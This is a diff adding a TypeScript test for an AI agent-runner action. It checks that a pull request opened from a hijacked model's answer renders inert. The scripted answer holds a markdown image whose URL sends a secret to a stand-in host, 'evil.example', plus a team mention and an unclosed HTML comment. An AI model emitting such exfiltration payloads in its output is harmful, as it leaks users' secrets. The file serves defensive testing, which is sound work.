@@ -1,0 +1,49 @@
+import assert from 'node:assert/strict';
+import path from 'node:path';
+import { after, describe, it } from 'node:test';
+import { micromark } from 'micromark';
+import { gfm, gfmHtml } from 'micromark-extension-gfm';
+import { startFakeGitHub } from '../fakes/fake-github.js';
+import { startScriptedModel } from '../fakes/scripted-model.js';
+import { OWNER, REPO, githubEnv, headSha, settle, trackedFiles } from './github-helpers.js';
+import { makeRepo, runAction } from './harness.js';
+
+/**
+ * Attack on the pull request the runner opens: its description carries the model's final answer. A
+ * hijacked model answers with an image whose URL carries data out, a team mention and an unclosed
+ * HTML comment; rendered as GitHub renders it, none of that may be live.
+ */
+
+const open: { close(): Promise<void> }[] = [];
+after(async () => {
+  await Promise.all(open.map((s) => s.close()));
+});
+
+describe('the pull request the runner opens', () => {
+  it("holds the model's answer inert: no image, no mention, no HTML comment", async () => {
+    const workspace = makeRepo();
+    settle(workspace);
+    const fake = await startFakeGitHub({ owner: OWNER, repo: REPO, permissions: { [OWNER]: 'write' }, baseCommitSha: headSha(workspace), baseFiles: trackedFiles(workspace), pulls: [] });
+    open.push(fake);
+    const answer = 'Done <img src="https://evil.example/?d=SECRET"> cc @octo-org/security-team and _@someone_\n<!-- the rest is hidden';
+    const model = await startScriptedModel([
+      { content: [{ type: 'tool_use', name: 'Write', input: { file_path: path.join(workspace, 'notes.txt'), content: 'x\n' } }] },
+      { content: [{ type: 'text', text: answer }] },
+    ]);
+    open.push(model);
+    const run = await runAction({
+      workspace,
+      inputs: { prompt: 'Write notes', push: 'pull_request', branch: 'agent/notes', allowed_tools: 'Write', max_turns: '5' },
+      env: githubEnv({ fake, modelUrl: model.url, eventName: 'schedule', payload: { schedule: '0 0 * * *' } }),
+    });
+    assert.equal(run.exitCode, 0, `${run.stdout}\n${run.stderr}`);
+    const body = [...fake.state.pulls.values()][0]?.body ?? '';
+    const html = micromark(body, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
+    assert.doesNotMatch(html, /<img\b/i, body);
+    assert.equal((html.match(/<!--/g) ?? []).length, body.startsWith('<!-- agent-runner:maintenance -->') ? 1 : 0, `only the runner's own marker opens an HTML comment\n${body}`);
+    const text = html.replace(/<code>[\s\S]*?<\/code>/g, ' ').replace(/<[^>]+>/g, ' ');
+    assert.doesNotMatch(text, /(?<![\w\u200b])@[\w-]+/, body);
+    assert.match(body, /evil\.example/, 'the text is still there, as text');
+    assert.match(body, /Opened by Agent Runner|\| Result \| Cost/, 'the runner\'s own part follows');
+  });
+});
